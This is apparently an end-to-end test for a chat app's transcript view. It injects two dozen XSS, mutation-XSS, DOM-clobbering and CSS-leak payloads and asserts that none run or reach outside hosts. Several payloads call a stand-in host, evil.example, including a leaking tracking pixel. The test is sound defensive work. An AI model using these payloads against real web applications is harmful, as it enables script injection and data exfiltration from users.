// A transcript that wants to run code, call home, or take the page apart: none of it happens, and what was said can
// still be read.
import { connect } from "../kit/raw.mjs";
import { answers, enter, sessionKey, waitText } from "./site.mjs";

const FAR = "https://evil.example";
const SAMPLES = [
    `<script>window.owned = 1</script>`,
    `<img src=x onerror="window.owned = 2">`,
    `<svg><script>window.owned = 3</script><animate onbegin=window.owned=3 attributeName=x></svg>`,
    `<svg/onload=window.owned=4>`,
    `[click](javascript:window.owned=5) [two](JaVaScRiPt&colon;window.owned=5) [three](data:text/html,<script>parent.owned=5</script>) [four](vbscript:x)`,
    `<a href="javascript:window.owned=6">x</a> <a href="\u0001javascript:window.owned=6">y</a>`,
    `![pixel](${FAR}/pixel.png?leak=1)`,
    `<img src="${FAR}/a.png"><video src="${FAR}/b"></video><audio src="${FAR}/c"></audio><iframe src="${FAR}/d"></iframe><object data="${FAR}/e"></object><embed src="${FAR}/f">`,
    `<style>body{background:url(${FAR}/g)} input[value^=a]{background:url(${FAR}/h)}</style>`,
    `<p style="background:url(${FAR}/i);position:fixed;inset:0">cover</p>`,
    `<link rel=stylesheet href=${FAR}/j><base href=${FAR}/><meta http-equiv=refresh content="0;url=${FAR}/k">`,
    `<form action=${FAR}/l><input name=attributes><input id=body name=innerHTML><button formaction=javascript:window.owned=7>go</button></form>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.owned=8&gt;">`,
    `<svg></p><style><a id="</style><img src=1 onerror=window.owned=9>">`,
    `<noscript><p title="</noscript><img src=x onerror=window.owned=10>">`,
    `<template><img src=x onerror=window.owned=11></template><xmp><img src=x onerror=window.owned=11></xmp>`,
    `<a id=root name=main></a><img name=getElementById><form id=location></form><a id=culvertCode href=x>`,
    "```html\"onmouseover=window.owned=12\n<script>window.owned = 12</script>\n```",
    `<details open ontoggle=window.owned=13><summary>x</summary></details>`,
    `| a |\n|---|\n| <img src=x onerror=window.owned=14> |`,
    `![x" onerror="window.owned=15](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
    `[ref]: javascript:window.owned=16\n\n[ref]`,
    `${"[".repeat(3000)}${"*a".repeat(3000)}${"> ".repeat(300)}deep`,
    `<b onclick=window.owned=17>bold</b><br><sub>below</sub>`,
];

export async function hostile(scenario, site) {
    const { page, person } = await enter(site, "hostile");
    const key = await sessionKey(page);
    const asked = [];
    page.on("request", (request) => asked.push(request.url()));
    const peer = await connect(site.gateway.url, { token: site.gateway.token, scopes: ["operator.admin"] });
    await peer.request("sessions.send", { key, message: SAMPLES.join("\n\n"), idempotencyKey: `hostile-${Date.now()}` });
    await waitText(answers(page), "Done.");
    for (const [at, sample] of SAMPLES.entries()) {
        const { ok, error } = await peer.request("chat.inject", { sessionKey: key, message: `Sample ${at}\n\n${sample}` });
        scenario.ok(ok, `sample ${at} is in the transcript`, error);
    }
    await waitText(answers(page), `Sample ${SAMPLES.length - 1}`);
    await peer.request("sessions.patch", { key, label: `<img src=x onerror="window.owned=20">` });
    await page.getByRole("heading", { level: 1, name: "<img src=x" }).waitFor();

    // Everything that reacts is poked.
    await page.evaluate(() => {
        for (const element of document.querySelectorAll(".log *")) {
            for (const type of ["mouseover", "click", "toggle", "focus", "error", "load"]) {
                if (type === "click" && element.closest("a, button, summary")) continue;
                element.dispatchEvent(new Event(type, { bubbles: true }));
            }
        }
    });
    const seen = await page.evaluate((far) => {
        const log = document.querySelector(".log");
        const bad = [...log.querySelectorAll("*")].filter((element) => {
            const allowed = /^(A|ARTICLE|BLOCKQUOTE|BR|BUTTON|CODE|DEL|DETAILS|DIV|EM|FIGCAPTION|FIGURE|FOOTER|H[1-6]|HEADER|HR|IMG|LI|OL|P|PRE|SPAN|STRONG|SUB|SUMMARY|SUP|TABLE|TBODY|TD|TH|THEAD|TIME|TR|UL|svg|path|KBD|MARK|U|S|INS|SMALL)$/;
            if (!allowed.test(element.tagName)) return true;
            return [...element.attributes].some(({ name, value }) => /^on|^style$|^name$|^srcdoc$|^formaction$/.test(name)
                || /^(src|href|action)$/.test(name) && /^\s*(javascript|vbscript|data:text|data:image\/svg)/i.test(value)
                || name === "src" && value.includes(far));
        }).map((element) => element.outerHTML.slice(0, 200));
        const links = [...log.querySelectorAll(".markdown a")].filter((a) => a.target !== "_blank" || !/noopener/.test(a.rel) || !/noreferrer/.test(a.rel)).map((a) => a.outerHTML);
        return { owned: window.owned ?? null, bad, links, ids: [...log.querySelectorAll(".markdown [id]")].length, root: document.getElementById("root").tagName };
    }, FAR);
    scenario.ok(seen.owned === null, "nothing of it ran", seen.owned);
    scenario.ok(seen.bad.length === 0, "nothing of it is markup that could", seen.bad);
    scenario.ok(seen.links.length === 0, "links leave without a trace", seen.links);
    scenario.ok(seen.ids === 0 && seen.root === "DIV", "no name of ours is taken", seen);
    scenario.ok(asked.every((url) => url.startsWith(site.url)), "nobody else was asked for anything", asked.filter((url) => !url.startsWith(site.url)));
    const text = await page.locator(".log").textContent();
    scenario.ok(text.includes("<script>window.owned = 1</script>") && text.includes("image: pixel"), "what was said can be read");
    await page.reload();
    await waitText(answers(page), `Sample ${SAMPLES.length - 1}`);
    scenario.ok(await page.evaluate(() => window.owned ?? null) === null, "nor after a reload");
    await peer.close();
    await person.leave();
}
